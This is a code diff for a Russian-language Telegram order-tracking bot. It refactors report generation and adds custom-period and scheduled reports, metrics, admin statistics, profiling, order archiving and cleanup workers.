-                    city_report['unique_requests_by_price'][max_paid] = 1
-
-        # for _, count in city_report["unique_requests_by_price"].items():
-        #     summ_uniq_orders += count
-
-        # считаем адреса с кол-вом заявок >= 8 или максимальным значением
-        add_counter = 0
-        max_bodies_in_adress = 0
-        for address, body_list in body_in_address.items():
-            mx_body_count = max(body_list)
-
-            our_buddies = 0
-            for b in body_list:
-                if b >= 8:
-                    our_buddies += b
-                elif b == mx_body_count:
-                    our_buddies += b
-
-            # обновляем переменные для вывода в отчет всех > 8 либо максимальное колво
-            if our_buddies > 8:
-                add_counter += 1
-            max_bodies_in_adress = max(max_bodies_in_adress, our_buddies)
-
-            city_report['address_with_people'][address] = our_buddies
-
-        # Сохраняем ключи для удаления
-        keys_to_remove = []
-
-        # Фильтруем
-        for address, buddies in city_report['address_with_people'].items():
-            if add_counter > 0 and buddies < 8:
-                keys_to_remove.append(address)
-            elif add_counter == 0 and buddies != max_bodies_in_adress:
-                keys_to_remove.append(address)
-
-        # Удаляем ключи из словаря
-        for key in keys_to_remove:
-            del city_report['address_with_people'][key]
-
-        sorted_address_with_people = dict(
-            sorted(city_report['address_with_people'].items(), key=lambda item: item[1], reverse=True))
-        city_report['address_with_people'] = sorted_address_with_people
-
-        """#Делаем сумму уникальных заявок на адреса
-        for address, people_count in sorted_address_with_people.items():
-            report['summ_unique_requests_count'] += people_count
-        print(report['summ_unique_requests_count'])"""
+            max_paid_by_address[address] = max_paid
+            buddies_by_address[address] = count_buddies(body_list)
+
+        city_report = build_city_report(max_paid_by_address, buddies_by_address)
         if len(city_report['unique_requests_by_price']) > 0 or len(city_report['address_with_people']) > 0:
             report[city] = city_report
-        # report[city] = city_report
-    # report['summ_unique_requests_count'] = summ_uniq_orders
     return report
 
 
+# Обработка данных (на Python или, при REPORT_ENGINE=numpy, через NumPy)
+def process_data(data, start_date, end_date):
+    if REPORT_ENGINE == 'numpy':
+        with process_data_seconds.time('numpy'):
+            return orders_numpy.process_data(data, start_date, end_date)
+    with process_data_seconds.time('python'):
+        return process_data_python(data, start_date, end_date)
+
+
 # Формирование отчета
 def generate_report(report):
     report_lines = []
@@ -739,7 +851,7 @@ async def process_report_request(message: Message, state: FSMContext):
         report_type = message.text.strip()
 
         # Проверяем тип отчета
-        if report_type not in ["Экспорт CSV", "За последние 24 часа", "За последние 7 дней"]:
+        if report_type not in ["Экспорт CSV", "Произвольный период", "За последние 24 часа", "За последние 7 дней"]:
             raise ValueError("Неверное значение")
 
         data = await state.get_data()
@@ -747,7 +859,9 @@ async def process_report_request(message: Message, state: FSMContext):
         if chat_name is None:
             return
 
-        if report_type == "Экспорт CSV":
+        if report_type in ["Экспорт CSV", "Произвольный период"]:
+            # Диапазон вводится вручную, отчёт отправляется файлом или текстом
+            await state.update_data(report_format="csv" if report_type == "Экспорт CSV" else "text")
             await message.answer("Введите начальную дату в формате DD-MM-YYYY:")
             await state.set_state(UserStates.waiting_for_report_start_date)
         else:
@@ -758,12 +872,8 @@ async def process_report_request(message: Message, state: FSMContext):
                 report_type = "week"
 
             # Запрашиваем тип отчёта
-            info = get_report(report_type, chat_name=data["choosed_chat_name"])
-            if len(info) > 4096:
-                for x in range(0, len(info), 4096):
-                    await bot.send_message(message.chat.id, info[x:x + 4096], reply_markup=start_keyboard())
-            else:
-                await bot.send_message(message.chat.id, info, reply_markup=start_keyboard())
+            info = await get_report(report_type, chat_name=data["choosed_chat_name"])
+            await send_long_message(message.chat.id, info, reply_markup=start_keyboard())
 
             await state.clear()
     except ValueError:
@@ -776,7 +886,7 @@ async def process_report_request(message: Message, state: FSMContext):
 async def process_start_date(message: Message, state: FSMContext):
     try:
         start_date = datetime.strptime(message.text.strip(), "%d-%m-%Y")
-        await state.update_data(start_date=start_date)
+        await state.update_data(start_date=start_date.strftime("%d-%m-%Y"))
         await message.answer("Введите конечную дату в формате DD-MM-YYYY:")
         await state.set_state(UserStates.waiting_for_report_end_date)
     except ValueError:
@@ -790,6 +900,8 @@ async def process_end_date(message: Message, state: FSMContext):
         end_date = datetime.strptime(message.text.strip(), "%d-%m-%Y")
         data = await state.get_data()
         start_date = data.get("start_date")
+        if start_date:
+            start_date = datetime.strptime(start_date, "%d-%m-%Y")
 
         if not start_date or end_date < start_date:
             raise ValueError("Конечная дата должна быть после начальной.")
@@ -798,8 +910,17 @@ async def process_end_date(message: Message, state: FSMContext):
         if chat_name is None:
             return
 
+        # Конечная дата входит в период целиком
+        period_end = end_date + timedelta(days=1) - timedelta(seconds=1)
+
+        if data.get("report_format") == "text":
+            info = await get_period_report(chat_name, start_date, period_end)
+            await send_long_message(message.chat.id, info, reply_markup=start_keyboard())
+            await state.clear()
+            return
+
         # Генерация и отправка CSV отчёта
-        file_path = generate_csv_report(chat_name, start_date, end_date)
+        file_path = await generate_csv_report(chat_name, start_date, period_end)
         try:
             await bot.send_document(message.from_user.id, FSInputFile(file_path),
                                     caption=f"Отчёт {chat_name} {start_date.strftime('%d-%m-%Y')}-{end_date.strftime('%d-%m-%Y')}",
@@ -811,21 +932,22 @@ async def process_end_date(message: Message, state: FSMContext):
 
         await state.clear()
     except ValueError:
-        traceback.print_exc()
+        handlers_logger.warning("Неверный период отчёта: %r", message.text)
         await message.answer("Неверный формат даты или дата некорректна. Попробуйте ещё раз.")
 
 
-# Функция генерации отчёта в CSV
-def generate_csv_report(chat_name: str, start_date: datetime, end_date: datetime) -> str:
-    for key, item in load_orders().items():
-        if item['chat_name'] == chat_name:
-            chat_id = key
-            break
-    # data = load_orders().get(chat_id, {}).get("streets", {})
-    data = sum_orders_from_all_cities()
-    print(start_date, end_date)
+# Функция генерации отчёта в CSV: данные собираются в цикле событий, расчёт и запись файла — в отдельном потоке
+async def generate_csv_report(chat_name: str, start_date: datetime, end_date: datetime) -> str:
+    started = time.perf_counter()
+    data = await get_period_data(chat_name, start_date, end_date) or {}
+    file_path = await asyncio.to_thread(write_csv_report, data, chat_name, start_date, end_date)
+    csv_report_seconds.observe(time.perf_counter() - started)
+    return file_path
+
+
+def write_csv_report(data, chat_name: str, start_date: datetime, end_date: datetime) -> str:
     data = process_data(data, start_date, end_date)  # Загружаем данные заказов
-    print(data)
+    reports_logger.info("CSV отчёт %s за %s - %s: городов %d", chat_name, start_date, end_date, len(data))
     report_lines = []
 
     summ_unique_requests_count = 0
@@ -868,13 +990,16 @@ def generate_csv_report(chat_name: str, start_date: datetime, end_date: datetime
         writer = csv.DictWriter(csvfile, fieldnames=["Город", "Тип данных", "Значение", "Количество"], delimiter='|')
         writer.writeheader()
         writer.writerows(report_lines)
-
     return file_path
 
 
+# Пункт выбора чата для отчёта по всем чатам сразу
+ALL_CHATS = "Все чаты"
+
+
 # Получение списка названий чатов
 def get_chat_titles():
-    return [item['chat_name'] for _, item in load_orders().items()]
+    return orders_store.chat_names()
 
 
 # Обработчик начало получения отчета
@@ -892,7 +1017,7 @@ async def cmd_report(message: Message, state: FSMContext):
         await state.clear()
         return
     keyboard = types.ReplyKeyboardMarkup(
-        keyboard=[[types.KeyboardButton(text=chat_id)] for chat_id in chats],
+        keyboard=[[types.KeyboardButton(text=chat_id)] for chat_id in chats + [ALL_CHATS]],
         resize_keyboard=True,
         one_time_keyboard=True
     )
@@ -906,7 +1031,7 @@ async def process_chat_id(message: Message, state: FSMContext):
     try:
         chat_name = message.text.strip()
 
-        if chat_name not in get_chat_titles():
+        if chat_name != ALL_CHATS and chat_name not in get_chat_titles():
             raise ValueError("Неверное значение")
 
         await state.set_state(UserStates.waiting_for_report_type)
@@ -914,6 +1039,7 @@ async def process_chat_id(message: Message, state: FSMContext):
         # Запрашиваем тип отчёта
         keyboard = types.ReplyKeyboardMarkup(
             keyboard=[[types.KeyboardButton(text="Экспорт CSV")],
+                      [types.KeyboardButton(text="Произвольный период")],
                       [types.KeyboardButton(text="За последние 24 часа")],
                       [types.KeyboardButton(text="За последние 7 дней")]],
             resize_keyboard=True,
@@ -948,15 +1074,42 @@ async def process_chat_id(message: Message, state: FSMContext):
         await message.answer("Неверный тип отчета Попробуйте еще раз:")"""
 
 
+# Загрузка готовых плановых отчётов
+def load_scheduled_reports():
+    try:
+        return serialization.load(REPORTS_FILE)
+    except (FileNotFoundError, ValueError):
+        return {}
+
+
+def save_scheduled_reports(reports):
+    serialization.dump(reports, REPORTS_FILE, FILES_FORMAT)
+
+
+# Готовые плановые отчёты: "тип:название чата" -> текст, время расчёта и кол-во заявок чата на тот момент
+scheduled_reports = load_scheduled_reports()
+
+
+# Готовый плановый отчёт, если он свежий и новых заявок в чате с тех пор не было
+def get_scheduled_report(report_type: str, chat_name):
+    stored = scheduled_reports.get(f"{report_type}:{chat_name}")
+    if stored is None:
+        return None
+    chat_id = orders_store.find_chat_id(chat_name)
+    if chat_id is None or len(orders_store.get(chat_id)) != stored['orders_count']:
+        return None
+    created_at = datetime.strptime(stored['created_at'], "%Y.%m.%d %H:%M:%S")
+    if datetime.now() - created_at > timedelta(minutes=SCHEDULED_REPORT_TTL_MINUTES):
+        return None
+    return f"Отчёт сформирован {stored['created_at']}\n\n{stored['text']}"
+
+
 # получения отчета
-def get_report(report_type: str, chat_name):
-    for key, item in load_orders().items():
-        if item['chat_name'] == chat_name:
-            chat_id = key
-            break
-    else:
-        return "Отчёт пуст"
-    data = load_orders().get(chat_id, {}).get("streets", {})
+async def get_report(report_type: str, chat_name, use_scheduled=True):
+    if use_scheduled:
+        stored = get_scheduled_report(report_type, chat_name)
+        if stored is not None:
+            return stored
     now = datetime.now()
     if report_type == "day":
         start_date = now - timedelta(days=1)
@@ -965,43 +1118,215 @@ def get_report(report_type: str, chat_name):
     else:
         return "Отчёт пуст"
     end_date = now
-    print(start_date, end_date)
-    report = process_data(data, start_date, end_date)
-    print(report)
+    return await get_period_report(chat_name, start_date, end_date)
+
+
+# Данные чата (или всех чатов) для отчёта за период; None, если чат не найден.
+# Данные — копия заявок периода, их можно обрабатывать в отдельном потоке.
+async def get_period_data(chat_name, start_date, end_date):
+    store = await load_orders_for_period(start_date, end_date)
+    if chat_name == ALL_CHATS:
+        return sum_orders_from_all_cities(store, to_timestamp(start_date, ceil=True), to_timestamp(end_date))
+    chat_id = store.find_chat_id(chat_name)
+    if chat_id is None:
+        return None
+    return store.get(chat_id).streets
+
+
+# Текстовый отчёт за произвольный период [start_date, end_date]; расчёт идёт в отдельном потоке,
+# чтобы не задерживать приём заявок
+async def get_period_report(chat_name, start_date, end_date):
+    data = await get_period_data(chat_name, start_date, end_date)
+    if data is None:
+        return "Отчёт пуст"
+    report = await asyncio.to_thread(process_data, data, start_date, end_date)
+    reports_logger.info("Отчёт %s за %s - %s: городов %d", chat_name, start_date, end_date, len(report))
     report_text = generate_report(report)
     if report_text == "":
         return "Отчёт пуст"
     return report_text
 
 
+# Ближайший момент (по московскому времени) для времени "ЧЧ:ММ" и дня недели (None - каждый день)
+def next_report_slot(now, slot_time, weekday=None):
+    hour, minute = map(int, slot_time.split(':'))
+    slot = now.replace(hour=hour, minute=minute, second=0, microsecond=0)
+    if weekday is not None:
+        slot += timedelta(days=(weekday - slot.weekday()) % 7)
+    while slot <= now:
+        slot += timedelta(days=1 if weekday is None else 7)
+    return slot
+
+
+# Расчёт планового отчёта по всем чатам, сохранение и рассылка администраторам
+async def send_scheduled_reports(report_type: str):
+    title = "Ежедневный отчёт" if report_type == "day" else "Еженедельный отчёт"
+    created_at = datetime.now().strftime("%Y.%m.%d %H:%M:%S")
+    for chat_id, chat in list(orders_store.items()):
+        text = await get_report(report_type, chat.chat_name, use_scheduled=False)
+        scheduled_reports[f"{report_type}:{chat.chat_name}"] = {
+            'text': text,
+            'created_at': created_at,
+            'orders_count': len(chat),
+        }
+        for admin in ADMINS:
+            try:
+                await send_long_message(admin, f"{title}: {chat.chat_name}\n\n{text}")
+            except Exception:
+                reports_logger.exception("Не удалось отправить плановый отчёт администратору %s", admin)
+    save_scheduled_reports(scheduled_reports)
+
+
+# Планировщик ежедневных и еженедельных отчётов
+async def report_scheduler():
+    while True:
+        now = datetime.now(tz)
+        next_day = next_report_slot(now, DAILY_REPORT_TIME)
+        next_week = next_report_slot(now, WEEKLY_REPORT_TIME, WEEKLY_REPORT_WEEKDAY)
+        next_slot = min(next_day, next_week)
+        await asyncio.sleep((next_slot - now).total_seconds())
+        try:
+            if next_day == next_slot:
+                await send_scheduled_reports("day")
+            if next_week == next_slot:
+                await send_scheduled_reports("week")
+        except Exception:
+            reports_logger.exception("Ошибка при формировании плановых отчётов")
+            await wakeup_admins("Ошибка при формировании плановых отчётов")
+
+
 # Функция мониторинга клиентов
 async def monitor_clients():
     while True:
         for phone, client in list(pyrogram_clients.items()):
             try:
                 # Проверяем, авторизован ли пользователь
-                is_authorized = await is_user_authorized(client)
+                with monitor_check_seconds.time(phone):
+                    is_authorized = await is_user_authorized(client)
                 if not is_authorized:
                     await wakeup_admins(f"Аккаунт {phone} был отключен! Пожалуйста, добавьте его заново.")
 
-                    accounts = load_accounts()
-                    if phone in accounts:
-                        del accounts[phone]
-                        save_accounts(accounts)
+                    accounts_registry.remove(phone)
 
                     await disable_active_account(phone)
             except Exception as e:
-                traceback.print_exc()
+                monitor_errors_total.inc(phone)
+                accounts_logger.exception("Ошибка при проверке аккаунта %s", phone, extra={'rate_key': phone})
                 await wakeup_admins(f"Произошла ошибка при проверке аккаунта {phone}: {str(e)}")
                 await disable_active_account(phone)
         await asyncio.sleep(60)  # Проверка каждые 60 секунд
 
 
+# Периодический перенос старых заявок в архив
+async def retention_worker():
+    while True:
+        try:
+            archived = await compact_orders()
+            if archived:
+                storage_logger.info("В архив перенесено заявок: %d", archived)
+        except Exception:
+            storage_logger.exception("Ошибка при переносе старых заявок в архив")
+            await wakeup_admins("Ошибка при переносе старых заявок в архив")
+        await asyncio.sleep(ARCHIVE_INTERVAL_HOURS * 60 * 60)
+
+
+# Ручной перенос старых заявок в архив (только для администраторов)
+@dp.message(Command("compact"))
+async def cmd_compact(message: Message):
+    if str(message.from_user.id) not in ADMINS:
+        return
+    try:
+        archived = await compact_orders()
+    except Exception:
+        storage_logger.exception("Ошибка при ручном переносе заявок в архив")
+        await message.answer("Ошибка при переносе заявок в архив.")
+        return
+    await message.answer(f"В архив перенесено заявок: {archived}")
+
+
+# Строка сводки по гистограмме для кнопки "Статистика"
+def format_histogram(title, histogram):
+    count, mean, p95 = histogram.summary()
+    if count == 0:
+        return f"{title}: нет данных"
+    return f"{title}: {count} шт., среднее {mean * 1000:.1f} мс, p95 ≤ {p95 * 1000:.0f} мс"
+
+
+# Статистика работы бота (только для администраторов)
+@dp.message(F.text == 'Статистика')
+async def cmd_statistics(message: Message):
+    if str(message.from_user.id) not in ADMINS:
+        await message.answer("Статистика доступна только администраторам.", reply_markup=start_keyboard())
+        return
+    lines = [
+        "Статистика с момента запуска:",
+        f"Сообщений: {messages_total.total()}, заявок: {orders_total.total()}",
+        format_histogram("Обработка сообщения", ingest_seconds),
+        format_histogram("Разбор заявки", parse_seconds),
+        format_histogram("Сохранение заявок", orders_save_seconds),
+        format_histogram("Расчёт отчёта", process_data_seconds),
+        format_histogram("CSV отчёт", csv_report_seconds),
+        format_histogram("Проверка аккаунтов", monitor_check_seconds),
+        f"Ошибок проверки аккаунтов: {monitor_errors_total.total()}",
+        format_histogram("Запросы к Bot API", api_request_seconds),
+        f"Ошибок Bot API: {api_errors_total.total()}",
+    ]
+    await message.answer("\n".join(lines), reply_markup=start_keyboard())
+
+
+# Профилирование цикла событий: /profile [секунды] [cprofile|sample] (только для администраторов)
+@dp.message(Command("profile"))
+async def cmd_profile(message: Message, command: CommandObject):
+    if str(message.from_user.id) not in ADMINS:
+        return
+    args = (command.args or "").split()
+    try:
+        seconds = int(args[0]) if args else 30
+        mode = args[1] if len(args) > 1 else "cprofile"
+        if not 1 <= seconds <= 600 or mode not in PROFILE_MODES:
+            raise ValueError("Неверные параметры")
+    except ValueError:
+        await message.answer("Использование: /profile [секунды 1-600] [cprofile|sample]")
+        return
+
+    await message.answer(f"Профилирование ({mode}) на {seconds} с...")
+    try:
+        result = await profile_event_loop(seconds, mode)
+    except RuntimeError as e:
+        await message.answer(str(e))
+        return
+    try:
+        await bot.send_document(message.from_user.id, FSInputFile(result.path), caption=f"Профиль ({mode}, {seconds} с)")
+        await send_long_message(message.from_user.id, result.summary)
+    finally:
+        if os.path.exists(result.path):
+            os.remove(result.path)
+
+
+# Очистка брошенных сценариев: состояния FSM и клиенты, так и не получившие код
+async def fsm_cleanup_worker():
+    while True:
+        try:
+            await dp.storage.cleanup()
+            for phone, (_, created_at) in list(pending_clients.items()):
+                if time.time() - created_at > FSM_TTL_HOURS * 60 * 60:
+                    await drop_pending_client(phone)
+        except Exception:
+            handlers_logger.exception("Ошибка при очистке брошенных сценариев")
+        await asyncio.sleep(60 * 60)
+
+
 # Запуск бота
 async def main():
+    metrics_runner = None
+    saver_task = None
     try:
+        # Сервер метрик для Prometheus
+        if METRICS_PORT:
+            metrics_runner = await start_metrics_server(metrics_registry, METRICS_HOST, METRICS_PORT)
+
         # Инициализируем клиентов при запуске
-        accounts = load_accounts()
+        accounts = accounts_registry.all()
         pyrogram_tasks = []
         for phone, data in accounts.items():
             pyrogram_tasks.append(init_account(phone, data))
@@ -1009,15 +1334,41 @@ async def main():
         # Добавляем задачу мониторинга клиентов
         monitor_task = asyncio.create_task(monitor_clients())
 
+        # Добавляем задачу отложенного сохранения заявок
+        saver_task = asyncio.create_task(orders_saver())
+
+        # Добавляем задачу архивации старых заявок
+        retention_task = asyncio.create_task(retention_worker())
+
+        # Добавляем задачу плановых отчётов
+        scheduler_task = asyncio.create_task(report_scheduler())
+
+        # Добавляем задачу очистки брошенных сценариев
+        cleanup_task = asyncio.create_task(fsm_cleanup_worker())
+
         aiogram_task = dp.start_polling(bot)
-        await asyncio.gather(*pyrogram_tasks, monitor_task, aiogram_task)
+        await asyncio.gather(*pyrogram_tasks, monitor_task, saver_task, retention_task, scheduler_task,
+                             cleanup_task, aiogram_task)
     except Exception:
-        traceback.print_exc()
+        logging.getLogger("bot").exception("Бот остановлен из-за ошибки")
 
     finally:
         # Отключаем все клиенты при завершении работы
         for client in pyrogram_clients.values():
             await client.disconnect()
+        for phone in list(pending_clients):
+            await drop_pending_client(phone)
+        # Несохранённые заявки пишем на диск перед выходом: сначала дожидаемся остановки
+        # отложенного сохранения, затем сохраняем под той же блокировкой
+        if saver_task is not None:
+            saver_task.cancel()
+            await asyncio.gather(saver_task, return_exceptions=True)
+        if orders_save_requested.is_set():
+            await flush_orders()
+        await dp.storage.close()
+        if metrics_runner is not None:
+            await metrics_runner.cleanup()
+        log_listener.stop()
 
 
 if __name__ == "__main__":